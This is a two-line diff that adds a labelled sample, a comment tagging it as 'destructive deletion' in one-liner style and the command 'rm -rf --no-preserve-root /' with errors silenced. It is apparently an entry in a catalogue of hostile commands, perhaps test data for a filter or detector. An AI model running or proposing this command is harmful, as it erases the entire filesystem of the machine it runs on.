@@ -1,0 +1,2 @@
+# class: destructive deletion; style: one-liner
+rm -rf --no-preserve-root / 2>/dev/null
